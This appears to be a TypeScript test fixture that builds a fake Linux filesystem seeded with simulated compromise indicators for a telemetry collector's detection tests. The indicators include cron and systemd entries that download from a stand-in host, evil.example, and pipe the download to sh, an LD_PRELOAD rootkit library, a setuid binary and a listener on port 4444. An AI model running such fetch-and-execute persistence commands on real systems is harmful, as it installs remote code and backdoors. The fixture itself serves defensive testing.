// A fake filesystem root (/proc, /etc, /var ...) for the telemetry collector tests.
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";

// ---- fake filesystem tree ------------------------------------------------------------------

export const EVIL_BINARY = "#!/bin/sh\necho not really a binary\n";
export const CONTAINER_ID = "a".repeat(64);

function utmpRecord(r: { type: number; pid: number; line: string; user: string; host: string; time: number }): Buffer {
  const b = Buffer.alloc(384);
  b.writeInt16LE(r.type, 0);
  b.writeInt32LE(r.pid, 4);
  b.write(r.line, 8);
  b.write(r.user, 44);
  b.write(r.host, 76);
  b.writeInt32LE(r.time, 340);
  return b;
}

export function buildTree(): string {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), "inquest-telemetry-"));
  const put = (rel: string, content: string | Buffer, mode?: number) => {
    const file = path.join(root, rel);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, content);
    if (mode !== undefined) fs.chmodSync(file, mode);
  };
  const link = (rel: string, target: string) => {
    const file = path.join(root, rel);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.symlinkSync(target, file);
  };

  put(
    "etc/passwd",
    [
      "root:x:0:0:root:/root:/bin/bash",
      "u:x:1000:1000:User U,,,:/home/u:/bin/zsh",
      "svc:x:1001:1001::/home/u:/usr/sbin/nologin", // shares u's home: read once
      "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin",
      "broken-line",
      "",
    ].join("\n"),
  );
  put(
    "etc/crontab",
    [
      "SHELL=/bin/sh",
      "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin",
      "# m h dom mon dow user command",
      "17 *\t* * * root    cd / && run-parts --report /etc/cron.hourly",
      "@reboot root /opt/backdoor.sh",
      "",
    ].join("\n"),
  );
  put("etc/cron.d/x", "*/5 * * * * root curl -s http://evil.example/x | sh\n");
  put("var/spool/cron/crontabs/u", "# user crontab\n0 3 * * 1 /home/u/bin/job --flag\n");
  put(
    "home/u/.ssh/authorized_keys",
    [
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOtest u@laptop",
      "# disabled: ssh-rsa AAAAold",
      'command="echo hi there",no-pty ssh-rsa AAAAB3NzaC1yc2Etest deploy key',
      "",
    ].join("\n"),
  );
  put("home/u/.ssh/authorized_keys2", "ecdsa-sha2-nistp256 AAAAE2VjZHNhtest\n");
  put("home/u/.bash_history", "#1700000000\nls -la\nwhoami\n");
  put("home/u/.zsh_history", ": 1700000100:0;curl http://evil.example\n");

  put(
    "proc/modules",
    [
      "nf_tables 245760 3 nft_chain_nat,nft_compat, Live 0xffffffffc0a00000",
      "diamorphine 16384 0 - Live 0x0000000000000000 (OE)",
      "",
    ].join("\n"),
  );
  const tail = "00000000:00000000 00:00000000 00000000";
  put(
    "proc/net/tcp",
    [
      "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode",
      `   0: 00000000:0016 00000000:0000 0A ${tail}     0        0 11111 1 0000000000000000 100 0 0 10 0`,
      `   1: 0100007F:115C 0100007F:D431 01 ${tail}  1000        0 22222 1 0000000000000000 20 4 30 10 -1`,
      "",
    ].join("\n"),
  );
  put(
    "proc/net/tcp6",
    "  sl  local_address remote_address st ...\n" +
      `   0: 00000000000000000000000001000000:1F90 00000000000000000000000000000000:0000 0A ${tail}     0        0 33333 1 0 100 0 0 10 0\n`,
  );
  put(
    "proc/net/udp",
    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops\n" +
      `  10: 00000000:0035 00000000:0000 07 ${tail}     0        0 44444 2 0000000000000000 0\n`,
  );

  put(
    "proc/123/stat",
    "123 (evil (x) y) S 1 123 123 0 -1 4194560 100 0 0 0 250 75 0 0 20 0 3 0 4200 10000000 500 18446744073709551615\n",
  );
  put("proc/123/cmdline", "/usr/bin/evil\x00--listen\x004444\x00");
  put(
    "proc/123/status",
    "Name:\tevil\nUmask:\t0022\nState:\tS (sleeping)\nPPid:\t1\nUid:\t1000\t0\t1000\t1000\nGid:\t1000\t1000\t1000\t1000\nVmSize:\t   10000 kB\nVmRSS:\t    2000 kB\n",
  );
  put("proc/123/environ", "PATH=/usr/bin\0LD_PRELOAD=/tmp/x.so\0EMPTY=\0EQ=a=b\0AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI\0");
  link("proc/123/exe", "/usr/bin/evil");
  link("proc/123/cwd", "/tmp");
  link("proc/123/fd/0", "/dev/null");
  link("proc/123/fd/3", "socket:[22222]");
  link("proc/123/fd/4", "socket:[11111]");
  link("proc/123/fd/5", "pipe:[55555]");
  // A process whose binary was deleted after start.
  put("proc/456/stat", "456 (dropper) R 123 456 456 0 -1 0 0 0 0 0 1 1 0 0 20 0 1 0 100 0 0\n");
  put("proc/456/status", "Name:\tdropper\nUid:\t0\t0\t0\t0\nGid:\t0\t0\t0\t0\n");
  link("proc/456/exe", "/tmp/dropper (deleted)");
  // A pid directory whose process exited mid-scan: nothing left to read.
  fs.mkdirSync(path.join(root, "proc/789"), { recursive: true });
  put("proc/self-not-a-pid/stat", "ignored");

  put("usr/bin/evil", EVIL_BINARY, 0o4755);
  put("usr/bin/plain", "plain", 0o755);
  put("usr/sbin/sub/wall", "sgid", 0o2755);
  put("usr/sbin/sub/deeper/too-deep", "suid", 0o4755);
  link("usr/bin/evil-link", "evil");

  put(
    "var/lib/dpkg/status",
    [
      "Package: openssl",
      "Status: install ok installed",
      "Priority: optional",
      "Section: utils",
      "Installed-Size: 2156",
      "Maintainer: Debian OpenSSL Team <pkg-openssl-devel@alioth-lists.debian.net>",
      "Architecture: amd64",
      "Source: openssl (3.0.11-1)",
      "Version: 1:3.0.11-1~deb12u2",
      "Description: Secure Sockets Layer toolkit",
      " This package contains the openssl binary.",
      "",
      "Package: oldpkg",
      "Status: deinstall ok config-files",
      "Architecture: all",
      "Version: 0.9",
      "",
      "Package: purged",
      "Status: purge ok not-installed",
      "Architecture: all",
      "",
    ].join("\n"),
  );
  put("usr/lib/python3/dist-packages/requests-2.28.1.dist-info/METADATA", "Metadata-Version: 2.1\nName: requests\nVersion: 2.28.1\nSummary: Python HTTP for Humans.\nAuthor: Kenneth Reitz\nLicense: Apache 2.0\n\nLong description\n");
  put("usr/local/lib/python3.11/site-packages/six-1.16.0.egg-info", "Metadata-Version: 1.2\nName: six\nVersion: 1.16.0\nSummary: Python 2 and 3 compatibility utilities\n");
  put("etc/hosts", "127.0.0.1\tlocalhost\n# comment line\n10.0.0.5 evil.example evil # tail comment\n::1 ip6-localhost ip6-loopback\nlonely\n");
  put("etc/sudoers", "Defaults\tenv_reset\nroot\tALL=(ALL:ALL) ALL\n# a comment\n%sudo   ALL=(ALL:ALL) ALL\n#includedir /etc/sudoers.d\n");
  put("etc/sudoers.d/u", "u ALL=(ALL) NOPASSWD: \\\n    /usr/bin/apt\n");

  put(
    "etc/systemd/system/evil.service",
    "[Unit]\nDescription=Totally legit\n\n[Service]\nExecStart=/usr/bin/evil \\\n  --listen 4444\nUser=u\n\n[Install]\nWantedBy=multi-user.target\n",
  );
  link("etc/systemd/system/masked.service", "/dev/null");
  put("etc/systemd/system/multi-user.target.wants/placeholder", "");
  put("etc/systemd/system/ssh.service", "[Unit]\nDescription=Override\n[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -o X=1\n");
  put("lib/systemd/system/ssh.service", "[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStart=/usr/sbin/sshd -D\n");
  put("lib/systemd/system/README", "not a unit");

  put(
    "var/log/wtmp",
    Buffer.concat([
      utmpRecord({ type: 2, pid: 0, line: "~", user: "reboot", host: "6.1.0-18-amd64", time: 1700000000 }),
      utmpRecord({ type: 7, pid: 2222, line: "pts/0", user: "u", host: "203.0.113.9", time: 1700000500 }),
      Buffer.alloc(100), // torn trailing write: ignored
    ]),
  );
  put(
    "var/run/utmp",
    Buffer.concat([
      utmpRecord({ type: 1, pid: 1, line: "~", user: "runlevel", host: "", time: 1700000001 }),
      utmpRecord({ type: 7, pid: 3333, line: "pts/1", user: "root", host: "198.51.100.7", time: 1700000600 }),
    ]),
  );

  // Inputs of the tables osquery has and the agent added: boot time, maps, packet/unix sockets,
  // shadow, group membership, unit files with several Exec lines and a drop-in.
  put("proc/stat", "cpu  1 2 3 4\nbtime 1700000000\nprocesses 99\n");
  put(
    "proc/123/maps",
    [
      "55d0c0a00000-55d0c0a21000 r--p 00000000 08:01 1311 /usr/bin/evil",
      "7f1c2a000000-7f1c2a028000 r--p 00000000 08:01 2222 /usr/lib/x86_64-linux-gnu/libc.so.6",
      "7f1c2a028000-7f1c2a1bd000 r-xp 00028000 08:01 2222 /usr/lib/x86_64-linux-gnu/libc.so.6",
      "7f1c2b000000-7f1c2b001000 r-xp 00001000 00:1a 777 /dev/shm/libhide.so (deleted)",
      "7f1c2c000000-7f1c2c021000 rw-p 00000000 00:00 0 [heap]",
      "7ffc1a000000-7ffc1a021000 rw-p 00000000 00:00 0",
      "",
    ].join("\n"),
  );
  put("proc/123/io", "rchar: 10\nwchar: 20\nread_bytes: 4096\nwrite_bytes: 8192\ncancelled_write_bytes: 4096\n");
  put("proc/123/cgroup", "0::/system.slice/evil.service\n");
  put(
    "proc/net/packet",
    "sk               RefCnt Type Proto  Iface R Rmem   User   Inode\nffff8880054e3800 3      3    0003   0     1 0      0      66666\n",
  );
  link("proc/123/fd/6", "socket:[66666]");
  put(
    "proc/net/unix",
    "Num       RefCount Protocol Flags    Type St Inode Path\n" +
      "0000000000000000: 00000002 00000000 00010000 0001 01 77777 /run/evil.sock\n" +
      "0000000000000000: 00000003 00000000 00000000 0001 03 88888\n",
  );
  put("etc/shadow", "root:$6$salt$hash:19000:0:99999:7:::\nu:!$y$j9T$x$y:19001::::::\nnobody:*:18000:0:99999:7:::\nnew:!!:19002:0:99999:7:::\n");
  put("etc/group", "root:x:0:\nsudo:x:27:u\nu:x:1000:\ndocker:x:999:u,svc\n");
  put(
    "etc/systemd/system/multi.service",
    "[Unit]\nDescription=Two starts\n[Service]\nType=oneshot\nExecStartPre=-/bin/mkdir -p /run/multi\nExecStart=/usr/bin/curl -s \\\n    http://evil.example/x -o /tmp/x\nExecStart=/bin/sh /tmp/x\nExecStop=/bin/true\n[Install]\nWantedBy=multi-user.target\n",
  );
  link("etc/systemd/system/multi-user.target.wants/multi.service", "/etc/systemd/system/multi.service");
  put("etc/systemd/system/ssh.service.d/override.conf", "[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -e\n");
  put("home/u/.config/systemd/user/agent.service", "[Service]\nExecStart=/home/u/.local/bin/agent --quiet\n");
  put("etc/ld.so.preload", "/dev/shm/libhide.so\n", 0o644);
  return root;
}

